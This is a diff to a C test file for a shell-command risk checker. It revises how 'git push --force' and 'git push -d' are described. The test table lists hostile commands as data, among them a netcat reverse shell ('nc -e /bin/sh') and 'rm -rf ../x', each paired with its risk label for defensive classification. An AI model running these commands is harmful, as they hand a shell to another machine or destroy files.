@@ -148,7 +148,7 @@ static void the_gravest_reason_stands_beside_the_level(void **state)
          "HIGH: deletes data (line 3), uses the network"},
         {"ls\nmake test", "medium: runs code that the project defines (line 2)"},
         {"git push origin main", "medium: may use the network"},
-        {"git push --force", "HIGH: deletes what others have pushed, may use the network"},
+        {"git push --force", "HIGH: rewrites what others have pushed, may use the network"},
         {"git push; npm i left-pad", "medium: uses the network"},
         {"nc -e /bin/sh x 1", "HIGH: gives another machine a shell, uses the network"},
         {"rm -rf ../x", "Deletes files outside the workspace: ../x."},
@@ -173,7 +173,8 @@ static void what_stays_here_is_not_of_the_network(void **state)
     static const struct {
         const char *line, *risk;
     } rows[] = {
-        {"git push -f origin main", "HIGH: deletes what others have pushed  "},
+        {"git push -d origin main", "HIGH: deletes what others have pushed  "},
+        {"git push -f origin main", "HIGH: rewrites what others have pushed  "},
         {"git push origin main", "medium: sends commits to another repository"},
     };
     (void)state;
